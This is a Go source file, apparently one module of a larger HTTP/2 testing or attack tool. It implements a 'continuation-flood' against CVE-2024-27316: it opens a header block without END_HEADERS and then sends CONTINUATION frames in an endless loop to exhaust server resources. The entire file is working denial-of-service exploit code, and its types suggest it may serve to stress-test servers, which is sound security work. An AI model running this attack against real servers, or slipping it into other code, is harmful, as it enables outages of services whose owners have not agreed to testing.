package main

import (
	"bytes"
	"context"

	"golang.org/x/net/http2"
)

// continuationFlood sends a header block that does not end.
var continuationFlood = &attack{
	name: "continuation-flood", what: "CONTINUATION without END_HEADERS (CVE-2024-27316)",
	run: func(ctx context.Context, e *enemy) error {
		if err := e.frame(http2.FrameHeaders, http2.FlagHeadersEndStream, e.next, []byte{0x82, 0x84, 0x87}); err != nil {
			return err
		}
		// A literal that is never indexed: x: yyyy
		fragment := append([]byte{0x10, 1, 'x', 100}, bytes.Repeat([]byte("y"), 100)...)
		for ctx.Err() == nil {
			if err := e.frame(http2.FrameContinuation, 0, e.next, fragment); err != nil {
				return err
			}
		}
		return nil
	},
}
